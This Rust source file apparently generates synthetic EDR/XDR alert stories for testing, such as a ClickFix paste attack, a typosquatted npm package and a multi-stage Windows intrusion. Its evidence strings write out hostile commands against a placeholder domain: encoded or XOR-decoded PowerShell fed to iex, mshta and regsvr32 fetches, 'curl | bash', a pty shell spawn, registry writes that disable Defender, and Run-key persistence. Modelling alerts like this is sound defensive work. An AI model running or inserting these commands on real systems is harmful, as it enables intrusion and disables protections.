//! Stories with long, wide or incomplete process trees.

use super::{
    Account::{Person, Root, System},
    Image, Item, Outcome, Part, Platform, Step, Story, again, component, dropped, installed, run,
    sensors::{EDR, XDR},
    unix::{BASH, CURL, DASH, SYSTEMD},
    windows::{
        CMD, EDGE, EXPLORER, MSHTA, NET, POWERSHELL, REG, RUNDLL32, SCHTASKS, SERVICES, SVCHOST, WINWORD,
    },
};

const USERINIT: Image = component("userinit.exe", 69_632);
const WINLOGON: Image = component("winlogon.exe", 1_018_880);
const CONHOST: Image = component("conhost.exe", 1_150_976);
const WHOAMI: Image = component("whoami.exe", 77_312);
const NLTEST: Image = component("nltest.exe", 626_176);
const REGSVR32: Image = component("regsvr32.exe", 36_864);
const WERFAULT: Image = component("WerFault.exe", 603_136);
const MSBUILD: Image = installed(
    "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319",
    "MSBuild.exe",
    "Microsoft Corporation",
    270_336,
);
const CMD_2: Image = again(&CMD, 2);
const CMD_3: Image = again(&CMD, 3);
const POWERSHELL_2: Image = again(&POWERSHELL, 2);
const POWERSHELL_3: Image = again(&POWERSHELL, 3);
const POWERSHELL_4: Image = again(&POWERSHELL, 4);
const RUNDLL32_2: Image = again(&RUNDLL32, 2);
const INSTALLER: Image = dropped("C:\\Users\\<account>\\Downloads", "TeamViewSetup_<n>.exe", 18_442_240);
const LOADER: Image = dropped("C:\\Users\\<account>\\AppData\\Roaming\\Intel", "igfx<n>.dll", 412_672);
const PROJECT: Image = dropped("C:\\ProgramData\\Package Cache\\{<n>}", "build.csproj", 30_118);
const LOOT: Image = dropped("C:\\ProgramData\\Package Cache\\{<n>}", "c.7z", 84_410_368);

const ENCODED: Item = run(
    &CMD_2,
    &POWERSHELL_2,
    Person,
    "malicious",
    "powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Bypass -WindowStyle Hidden -EncodedCommand <base64:8000>",
);
const PASTED: &str = "powershell -w h -c \"$k='<base64:2400>';$b=[Convert]::FromBase64String($k);for($i=0;$i -lt $b.Length;$i++){$b[$i]=$b[$i] -bxor 0x2f};iex([Text.Encoding]::UTF8.GetString($b))\"";
const RUN: &str = "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run";
const POLICY: &str = "SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection";

/// A process chain from the user's sign-in to the last tool.
const CHAIN: &[Item] = &[
    Item::Device,
    Item::User,
    run(&WINLOGON, &USERINIT, Person, "unknown", "C:\\Windows\\system32\\userinit.exe"),
    run(&USERINIT, &EXPLORER, Person, "unknown", "C:\\Windows\\Explorer.EXE"),
    run(
        &EXPLORER,
        &INSTALLER,
        Person,
        "suspicious",
        "\"C:\\Users\\<account>\\Downloads\\TeamViewSetup_<n>.exe\" ",
    ),
    run(&INSTALLER, &CMD, Person, "suspicious", "cmd.exe /d /s /c \"start /b powershell\""),
    run(&CMD, &CONHOST, Person, "unknown", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"),
    run(
        &CMD,
        &POWERSHELL,
        Person,
        "malicious",
        "powershell -ep bypass -file C:\\Users\\<account>\\AppData\\Local\\Temp\\i<n>.ps1",
    ),
    run(&POWERSHELL, &MSHTA, Person, "malicious", "mshta.exe https://<domain>/captcha?id=<n>"),
    run(&MSHTA, &CMD_2, Person, "malicious", "cmd.exe /v /c \"set p=powershell&& call %p% <n>\""),
    ENCODED,
    run(
        &POWERSHELL_2,
        &RUNDLL32,
        Person,
        "malicious",
        "rundll32.exe C:\\Users\\<account>\\AppData\\Roaming\\Intel\\igfx<n>.dll,#1",
    ),
    run(
        &RUNDLL32,
        &MSBUILD,
        Person,
        "malicious",
        "MSBuild.exe \"C:\\ProgramData\\Package Cache\\{<n>}\\build.csproj\" /nologo",
    ),
    run(&MSBUILD, &CMD_3, Person, "malicious", "cmd.exe"),
    run(&CMD_3, &WHOAMI, Person, "suspicious", "whoami /groups"),
    run(&CMD_3, &NLTEST, Person, "suspicious", "nltest /domain_trusts /all_trusts"),
    run(&CMD_3, &NET, Person, "suspicious", "net1 group \"Enterprise Admins\" /domain"),
    run(
        &CMD_3,
        &SCHTASKS,
        Person,
        "malicious",
        "schtasks /create /tn Intel\\igfx /sc onlogon /tr \"rundll32 igfx<n>.dll,#1\" /f",
    ),
    Item::File(&INSTALLER, "suspicious"),
    Item::With(
        &Item::File(&LOADER, "malicious"),
        r#"{"fileDetails":{"sha256Ac":"<sha256:catalog>"},"detailedRoles":["Loaded by rundll32.exe"],"roles":["loaded"]}"#,
    ),
    Item::File(&PROJECT, "malicious"),
    Item::Url("https://<domain>/captcha?id=<n>"),
    Item::Address,
    Item::With(&Item::Address, r#"{"roles":["commandAndControl"]}"#),
];

/// The malware as one item that embeds its files and processes.
const THREAT: Item = Item::Holding(
    &Item::Other(
        "malwareEvidence",
        r#"{"verdict":"malicious","category":"Trojan","name":"Trojan:Win64/Igfxload.C!dha"}"#,
    ),
    &[
        ("files", Part::List(&[Item::File(&LOADER, "malicious"), Item::File(&INSTALLER, "suspicious")])),
        (
            "processes",
            Part::List(&[
                run(
                    &POWERSHELL_2,
                    &RUNDLL32,
                    Person,
                    "malicious",
                    "rundll32.exe C:\\Users\\<account>\\AppData\\Roaming\\Intel\\igfx<n>.dll,#1",
                ),
                run(
                    &RUNDLL32,
                    &MSBUILD,
                    Person,
                    "malicious",
                    "MSBuild.exe \"C:\\ProgramData\\Package Cache\\{<n>}\\build.csproj\" /nologo",
                ),
            ]),
        ),
    ],
);

/// A process whose ID is reused by [`SECOND_OWNER`] minutes later.
const FIRST_OWNER: Item = Item::With(
    &run(
        &SERVICES,
        &SVCHOST,
        System,
        "unknown",
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
    ),
    r#"{"processId":5120,"processCreationDateTime":"<at:-1200.0413377>"}"#,
);
const FIRST_CHILD: Item = Item::With(
    &run(
        &SVCHOST,
        &REGSVR32,
        System,
        "suspicious",
        "regsvr32.exe /s /n /u /i:https://<domain>/s.sct scrobj.dll",
    ),
    r#"{"parentProcessId":5120,"parentProcessCreationDateTime":"<at:-1200.0413377>","processCreationDateTime":"<at:-1130>"}"#,
);
const SECOND_OWNER: Item = Item::With(
    &run(&EXPLORER, &POWERSHELL_3, Person, "malicious", PASTED),
    r#"{"processId":5120,"processCreationDateTime":"<at:12.482>"}"#,
);
const SECOND_CHILD: Item = Item::With(
    &run(
        &POWERSHELL_3,
        &RUNDLL32_2,
        Person,
        "malicious",
        "rundll32.exe C:\\Users\\<account>\\AppData\\Roaming\\Intel\\igfx<n>.dll,Start",
    ),
    r#"{"parentProcessId":5120,"parentProcessCreationDateTime":"<at:12.482>","processCreationDateTime":"<at:19.5>"}"#,
);
const NO_PARENT: Item = Item::With(
    &run(&SERVICES, &WERFAULT, System, "suspicious", "C:\\Windows\\system32\\WerFault.exe -u -p 5120 -s 412"),
    r#"{"parentProcessId":0,"parentProcessCreationDateTime":null,"parentProcessImageFile":null,"processCreationDateTime":"<at:31>"}"#,
);
const UNNAMED_PARENT: Item = Item::With(
    &run(
        &SERVICES,
        &REG,
        System,
        "suspicious",
        "reg add \"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection\" /v DisableRealtimeMonitoring /t REG_DWORD /d 1 /f",
    ),
    r#"{"parentProcessId":7764,"parentProcessCreationDateTime":null,"parentProcessImageFile":null}"#,
);

const NPM: Image = installed("/usr/lib/node_modules/npm/bin", "npm", "OpenJS Foundation", 1_210);
const NODE: Image = installed("/usr/bin", "node", "OpenJS Foundation", 98_304_112);
const RUNNER: Image = installed("/opt/runner/bin", "Runner.Worker", "GitHub, Inc.", 72_808);
const LISTENER: Image = installed("/opt/runner/bin", "Runner.Listener", "GitHub, Inc.", 72_296);
const PYTHON: Image = installed("/usr/bin", "python3.10", "Canonical", 5_904_904);
const IMPLANT: Image = dropped("/dev/shm", ".k<n>", 1_904_112);
const PACKAGE: Image = dropped("/opt/runner/_work/shop/shop/node_modules/color-convrt", "install.js", 18_702);
const BASH_2: Image = again(&BASH, 2);
const DASH_2: Image = again(&DASH, 2);
const NODE_2: Image = again(&NODE, 2);

pub(super) const STORIES: &[Story] = &[
    Story {
        weight: 1,
        platform: Platform::Workstation,
        spread: 2,
        outcome: Outcome::Attack("multiStagedAttack"),
        steps: &[
            Step {
                title: "Suspicious chain of script interpreters launched by an installer",
                description: "A downloaded installer launched a chain of script interpreters. Several of them run encoded or obfuscated commands.",
                severity: "high",
                category: "Execution",
                techniques: &["T1204.002", "T1059.001", "T1218.005", "T1127.001", "T1027.010"],
                sensor: &EDR,
                threat: None,
                evidence: CHAIN,
            },
            Step {
                title: "'Igfxload' malware was detected in memory and on disk",
                description: "Files and running processes of the same malware were detected. One file could not be removed.",
                severity: "high",
                category: "Malware",
                techniques: &["T1055", "T1218.011"],
                sensor: &EDR,
                threat: Some(("Trojan:Win64/Igfxload.C!dha", "Igfxload")),
                evidence: &[
                    Item::Device,
                    THREAT,
                    Item::File(&LOADER, "malicious"),
                    Item::File(&LOADER, "malicious"),
                    Item::With(
                        &Item::File(&LOADER, "malicious"),
                        r#"{"remediationStatus":"partiallyRemediated","remediationStatusDetails":"The file is in use. It will be removed when the device restarts."}"#,
                    ),
                    run(
                        &POWERSHELL_2,
                        &RUNDLL32,
                        Person,
                        "malicious",
                        "rundll32.exe C:\\Users\\<account>\\AppData\\Roaming\\Intel\\igfx<n>.dll,#1",
                    ),
                    Item::Address,
                ],
            },
            Step {
                title: "Suspected data staging for exfiltration",
                description: "Documents were compressed into a password-protected archive in a folder that installers use.",
                severity: "medium",
                category: "Collection",
                techniques: &["T1560.001", "T1074.001"],
                sensor: &XDR,
                threat: None,
                evidence: &[
                    Item::Device,
                    Item::User,
                    run(
                        &CMD_3,
                        &POWERSHELL_4,
                        Person,
                        "suspicious",
                        "powershell -c \"7z a -p<n> 'C:\\ProgramData\\Package Cache\\{<n>}\\c.7z' $env:USERPROFILE\\Documents\"",
                    ),
                    Item::File(&LOOT, "suspicious"),
                ],
            },
        ],
    },
    Story {
        weight: 1,
        platform: Platform::Workstation,
        spread: 2,
        outcome: Outcome::Attack("malware"),
        steps: &[
            Step {
                title: "Suspicious command pasted into the Run dialog",
                description: "A fake CAPTCHA page tricked a user into pasting a malicious command into the Run dialog. This technique is known as ClickFix.",
                severity: "high",
                category: "Execution",
                techniques: &["T1204.001", "T1059.001", "T1140"],
                sensor: &EDR,
                threat: None,
                evidence: &[
                    Item::Device,
                    Item::User,
                    run(
                        &EXPLORER,
                        &EDGE,
                        Person,
                        "unknown",
                        "\"msedge.exe\" --single-argument https://<domain>/verify",
                    ),
                    FIRST_OWNER,
                    FIRST_CHILD,
                    SECOND_OWNER,
                    SECOND_CHILD,
                    NO_PARENT,
                    Item::RegistryValue(
                        "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU",
                        "a",
                        "powershell -w h -c iex(irm <domain>/v/<n>)\\1",
                    ),
                    Item::Url("https://<domain>/verify"),
                    Item::Url("https://<domain>/verify"),
                    Item::File(&LOADER, "malicious"),
                ],
            },
            Step {
                title: "Microsoft Defender Antivirus protection was turned off",
                description: "Policy settings that disable Microsoft Defender Antivirus features were written to the registry, and autostart entries were added.",
                severity: "medium",
                category: "DefenseEvasion",
                techniques: &["T1562.001", "T1112", "T1547.001"],
                sensor: &EDR,
                threat: None,
                evidence: &[
                    Item::Device,
                    UNNAMED_PARENT,
                    run(&WINWORD, &CMD, Person, "suspicious", "cmd.exe /c <base64:27000>"),
                    Item::RegistryKey(POLICY),
                    Item::RegistryValue(POLICY, "DisableRealtimeMonitoring", "1"),
                    Item::RegistryValue(POLICY, "DisableBehaviorMonitoring", "1"),
                    Item::RegistryValue(POLICY, "DisableOnAccessProtection", "1"),
                    Item::RegistryValue(POLICY, "DisableIOAVProtection", "1"),
                    Item::RegistryKey(RUN),
                    Item::RegistryValue(
                        RUN,
                        "IntelGraphics",
                        "rundll32 C:\\Users\\<account>\\AppData\\Roaming\\Intel\\igfx<n>.dll,Start",
                    ),
                    Item::RegistryValue(RUN, "OneDrive Update", "mshta https://<domain>/u/<n>"),
                    Item::RegistryValue(RUN, "", "<base64:600>"),
                ],
            },
        ],
    },
    Story {
        weight: 1,
        platform: Platform::Linux,
        spread: 2,
        outcome: Outcome::Attack("malware"),
        steps: &[Step {
            title: "Suspicious download by a package install script",
            description: "The install script of a typosquatted package downloaded and launched an executable on a build machine.",
            severity: "high",
            category: "Execution",
            techniques: &["T1195.002", "T1059.007", "T1105"],
            sensor: &EDR,
            threat: Some(("Trojan:Linux/Convrt.A", "Convrt")),
            evidence: &[
                Item::Device,
                run(
                    &SYSTEMD,
                    &LISTENER,
                    Root,
                    "unknown",
                    "/opt/runner/bin/Runner.Listener run --startuptype service",
                ),
                run(&LISTENER, &RUNNER, Root, "unknown", "/opt/runner/bin/Runner.Worker spawnclient 109 112"),
                run(
                    &RUNNER,
                    &BASH,
                    Root,
                    "unknown",
                    "/usr/bin/bash -e /opt/runner/_work/_temp/<guid:script>.sh",
                ),
                run(&BASH, &NPM, Root, "unknown", "npm ci"),
                run(&NPM, &NODE, Root, "suspicious", "node /usr/lib/node_modules/npm/bin/npm-cli.js ci"),
                run(&NODE, &DASH, Root, "suspicious", "sh -c node install.js"),
                run(&DASH, &NODE_2, Root, "malicious", "node install.js"),
                run(
                    &NODE_2,
                    &DASH_2,
                    Root,
                    "malicious",
                    "/bin/sh -c curl -s https://<domain>/p/<n> | bash -s -- <n> <base64:3200>",
                ),
                run(&DASH_2, &CURL, Root, "malicious", "curl -s https://<domain>/p/<n>"),
                run(&DASH_2, &BASH_2, Root, "malicious", "bash -s -- <n>"),
                run(&BASH_2, &PYTHON, Root, "malicious", "python3 -c 'import os,pty;pty.spawn(\"/bin/sh\")'"),
                run(&PYTHON, &IMPLANT, Root, "malicious", "/dev/shm/.k<n>"),
                Item::File(&IMPLANT, "malicious"),
                Item::File(&PACKAGE, "malicious"),
                Item::Url("https://<domain>/p/<n>"),
                Item::Address,
            ],
        }],
    },
];
